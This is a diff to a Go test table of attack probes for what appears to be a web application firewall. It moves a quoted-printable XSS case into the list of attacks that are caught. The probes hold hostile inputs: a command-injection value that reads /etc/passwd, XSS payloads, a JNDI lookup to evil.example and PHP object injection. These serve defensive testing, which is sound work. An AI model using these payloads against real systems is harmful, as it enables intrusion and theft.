@@ -80,6 +80,9 @@ func placesAttackTable() (crsCatches, crsMisses []probe) {
 	octet, octetType := multipartFile("data", `filename="data.bin"`, "application/octet-stream", "127.0.0.1; cat /etc/passwd")
 	qp, qpType := multipartFileQP("notes", `filename="notes.txt"`, "see <script>alert(document.domain)</script>\n")
 	crsCatches = []probe{
+		// refused with crs_only too since attack 67: a part with a
+		// Content-Transfer-Encoding is refused as ambiguous (200019)
+		{name: "XSS in a text file part sent quoted-printable", method: "POST", path: "/upload", contentType: qpType, body: qp},
 		{name: "XSS in X-Forwarded-Host", method: "GET", path: "/", header: http.Header{"X-Forwarded-Host": {`"><script>alert(document.domain)</script>`}}},
 		{name: "XSS in a custom header", method: "GET", path: "/", header: http.Header{"X-Display-Name": {`"><img src=x onerror=alert(document.domain)>`}}},
 		{name: "jndi in a custom header", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
@@ -148,7 +151,6 @@ func placesAttackTable() (crsCatches, crsMisses []probe) {
 		{name: "PHP object in a path segment", method: "GET", path: "/x/O:8:%22stdClass%22:0:%7B%7D"},
 		{name: "SQLi in a text file part (CSV)", method: "POST", path: "/upload", contentType: csvType, body: csv},
 		{name: "attacks in a part named with filename*= only", method: "POST", path: "/upload", contentType: starType, body: star},
-		{name: "XSS in a text file part sent quoted-printable", method: "POST", path: "/upload", contentType: qpType, body: qp},
 		{name: "RCE in a text file part declared octet-stream", method: "POST", path: "/upload", contentType: octetType, body: octet},
 	}
 	// a fifth fresh-eyes attack: Basic with stray characters, as
